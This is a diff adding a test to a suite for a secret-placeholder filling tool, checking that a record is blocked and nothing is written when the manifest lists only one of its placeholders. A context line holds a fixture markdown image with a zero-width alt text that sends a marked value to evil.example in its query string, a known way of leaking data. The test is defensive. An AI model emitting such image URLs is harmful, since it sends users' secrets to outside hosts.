@@ -167,6 +167,15 @@ it("fills in no placeholder that the manifest does not list", async () => {
   }
 });
 
+it("writes nothing of a record of which the manifest lists but one of two placeholders", async () => {
+  const archive = archiveOf(board(`password: ${MARK}`, { note: `password: ${MARK}` }));
+  for (const answers of [{}, { [POINTER]: SECRET }]) {
+    const { run, stack } = await fillWith(archive, { [BOARD]: answers }, archive, (_, pointer) => pointer === POINTER);
+    expect(outcomeOf(run, "Runbook")).toMatchObject({ action: "blocked", code: "placeholder-unlisted" });
+    expect(writesOn(stack)).toEqual([]);
+  }
+});
+
 describe("the plan", () => {
   it("shows what stands around, on one line, with hosts in front and nothing hidden", async () => {
     const markdown = `first line\n![a\u200b](https://evil.example/p.png?k=${MARK})\nlast «redacted:jwt»`;
